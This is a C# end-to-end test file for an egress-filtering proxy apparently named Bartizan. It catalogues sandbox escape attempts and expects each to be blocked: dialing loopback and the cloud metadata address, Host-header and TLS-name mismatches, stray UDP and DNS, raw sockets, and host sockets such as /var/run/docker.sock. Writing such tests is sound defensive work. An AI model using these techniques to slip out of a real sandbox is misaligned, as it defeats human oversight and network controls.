using System.Net;
using System.Net.Sockets;
using System.Text;
using Bartizan.Gateway.Tests.Egress;

namespace Bartizan.EndToEnd.Tests.Egress;

/// <summary>Ways around the proxy: every other socket that a program can open.</summary>
internal static class SocketAttacks
{
    private const string Unreachable = nameof(SocketError.NetworkUnreachable);

    // A kernel without IPv6 says the latter two.
    private const string Nobody =
        $"{nameof(SocketError.ConnectionRefused)}|{nameof(SocketError.AddressNotAvailable)}|{nameof(SocketError.AddressFamilyNotSupported)}";

    // Where the kernel captures no port but 80 and 443, nobody listens on others.
    private const string Reset =
        $"{nameof(SocketError.ConnectionReset)}|{nameof(SocketError.ConnectionRefused)}|closed";

    private const string Told =
        $"bartizan refused `connect good.tunnel.test:8080`|{nameof(SocketError.ConnectionRefused)}";

    private const string Forbidden =
        $"{nameof(SocketError.AccessDenied)}|{nameof(SocketError.AddressFamilyNotSupported)}|{nameof(SocketError.ProtocolNotSupported)}";

    public static IReadOnlyList<EgressAttack> All { get; } =
    [
        Dial("a port of the host's loopback", "127.0.0.1", Nobody),
        Dial("a port of the host's loopback, IPv6", "::1", Nobody),
        Dial("a port of the host by the unspecified address", "0.0.0.0", Nobody),
        Dial("a port of the host by a mapped address", "::ffff:127.0.0.1", Nobody),
        Dial("the metadata service", "169.254.169.254", Unreachable),
        Dial("the metadata service, IPv6", "fd00:ec2::254", Unreachable),
        Dial("an address of the Internet", "1.1.1.1", Unreachable),
        Dial("an address of the Internet, IPv6", "2606:4700:4700::1111", Unreachable),
        Dial("a private address", "10.0.0.1", Unreachable),
        Dial("the metadata service on another port", "169.254.169.254", Unreachable, 6379),
        Captured("an allowed name on the port of SSH", "good.tunnel.test", 22, "SSH-2.0-evil-mark\r\n"),
        Captured("an allowed name on the port of mail", "good.tunnel.test", 25, "EHLO evil-mark\r\n"),
        Captured("a name that nobody allows on an odd port", "evil-mark.collector.org", 6379, "SET evil-mark\r\n"),
        Captured(
            "a name that nobody allows on the port of DNS over TLS",
            "dns.evil-mark.org",
            853,
            "\0\u0020evil-mark"
        ),
        new(
            "an allowed name on an odd port, in the clear, of which no rule says a word",
            Layer.Policy,
            Told,
            a =>
                a.CapturedAsync(
                    "good.tunnel.test",
                    8080,
                    [.. "GET /evil-mark HTTP/1.1\r\nHost: good.tunnel.test:8080\r\n\r\n"u8]
                )
        ),
        new(
            "a host that is read request by request, dialed for the bytes of something else",
            Layer.Policy,
            Reset,
            a => a.CapturedAsync("good.plain.test", a.Ground.Raw, [.. "SET evil-mark\r\n"u8])
        ),
        new(
            "another host in Host than was dialed, on an odd port",
            Layer.Parser,
            $"400|{nameof(SocketError.ConnectionRefused)}",
            a =>
                a.CapturedAsync(
                    "good.plain.test",
                    a.Ground.Raw,
                    [.. "GET /evil-mark HTTP/1.1\r\nHost: evil-mark.org\r\n\r\n"u8]
                )
        ),
        new(
            "another name in TLS than was dialed, on an odd port",
            Layer.TlsName,
            Reset,
            a => a.CapturedAsync("good.tunnel.test", a.Ground.Raw, Hello.For("evil-mark.org"))
        ),
        new(
            "the listener of what is dialed, by its own port",
            Layer.Resolver,
            Reset,
            a => a.SendAsync(new IPEndPoint(IPAddress.Loopback, 3180), [.. "evil-mark"u8])
        ),
        new(
            "a captured name by UDP",
            Layer.Network,
            nameof(SocketError.ConnectionRefused),
            async _ =>
            {
                var answer = await Attacker.DnsAsync(Question.Of("good.tunnel.test"));
                using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
                await socket.ConnectAsync(new IPEndPoint(new IPAddress(answer.AsSpan()[^4..]), 8443));
                await socket.SendAsync("evil-mark"u8.ToArray());
                return $"heard {await socket.ReceiveAsync(new byte[16]).WaitAsync(TimeSpan.FromSeconds(2))}";
            }
        ),
        Datagram("QUIC", "1.1.1.1", 443),
        Datagram("DNS of another resolver", "8.8.8.8", 53),
        Datagram("DNS of another resolver, IPv6", "2001:4860:4860::8888", 53),
        Datagram("STUN", "74.125.250.129", 19302),
        Datagram("multicast DNS", "224.0.0.251", 5353),
        Datagram("broadcast", "255.255.255.255", 9),
        Made("a raw socket of ICMP", AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Icmp),
        Made("a raw socket of TCP", AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Tcp),
        Made("a raw socket of ICMPv6", AddressFamily.InterNetworkV6, SocketType.Raw, ProtocolType.IcmpV6),
        Made("a packet socket", AddressFamily.Packet, SocketType.Raw, ProtocolType.Unspecified),
        Made("an unprivileged ping", AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Icmp),
        new(
            "a socket of the host with an abstract name",
            Layer.Network,
            nameof(SocketError.ConnectionRefused),
            a => a.SendAsync(new UnixDomainSocketEndPoint($"\0bartizan-e2e-{a.Ground.Raw}"), [.. "evil-mark"u8])
        ),
        new(
            "the sockets of the host by their paths",
            Layer.Network,
            "0 reached",
            async a =>
            {
                var reached = 0;
                foreach (
                    var path in (string[])
                        ["/run/dbus/system_bus_socket", "/var/run/docker.sock", "/run/systemd/private", "/dev/log"]
                )
                {
                    try
                    {
                        await a.SendAsync(new UnixDomainSocketEndPoint(path), [.. "evil-mark"u8]);
                        reached++;
                    }
                    catch (SocketException) { }
                }

                return $"{reached} reached";
            }
        ),
        new("the host's connections in /proc/net", Layer.Network, "only ours", _ => Task.FromResult(Listeners())),
        new(
            "another listener of ours: the port of the daemon's attached agents",
            Layer.Network,
            nameof(SocketError.ConnectionRefused),
            a => a.SendAsync(new IPEndPoint(IPAddress.Loopback, 3129), [.. "evil-mark"u8])
        ),
    ];

    private static EgressAttack Dial(string name, string address, string evidence, int? port = null) =>
        new(
            $"{name}, dialed",
            Layer.Network,
            evidence,
            a => a.SendAsync(new IPEndPoint(IPAddress.Parse(address), port ?? a.Ground.Raw), [.. "evil-mark"u8])
        );

    private static EgressAttack Captured(string name, string host, int port, string text) =>
        new($"{name}, dialed", Layer.Policy, Reset, a => a.CapturedAsync(host, port, Encoding.Latin1.GetBytes(text)));

    private static EgressAttack Datagram(string name, string address, int port) =>
        new(
            $"{name} by UDP",
            Layer.Network,
            Unreachable,
            async _ =>
            {
                var to = new IPEndPoint(IPAddress.Parse(address), port);
                using var socket = new Socket(to.AddressFamily, SocketType.Dgram, ProtocolType.Udp)
                {
                    EnableBroadcast = true,
                };
                await socket.SendToAsync("evil-mark"u8.ToArray(), to);
                return "sent";
            }
        );

    private static EgressAttack Made(string name, AddressFamily family, SocketType type, ProtocolType protocol) =>
        new(
            name,
            Layer.Kernel,
            Forbidden,
            _ =>
            {
                using var socket = new Socket(family, type, protocol);
                return Task.FromResult("made");
            }
        );

    // Ports in the sandbox's own table: ours, and none of the host's.
    private static string Listeners()
    {
        int[] ours = [53, 80, 443, 3128, 3180, 5432, 8080, 8081];
        var others = File.ReadLines("/proc/net/tcp")
            .Skip(1)
            .Select(line => line.Split(' ', StringSplitOptions.RemoveEmptyEntries))
            .Where(columns => columns[3] == "0A")
            .Select(columns => Convert.ToInt32(columns[1].Split(':')[1], 16))
            .Except(ours)
            .ToList();
        return others.Count == 0 ? "only ours" : string.Join(' ', others);
    }
}
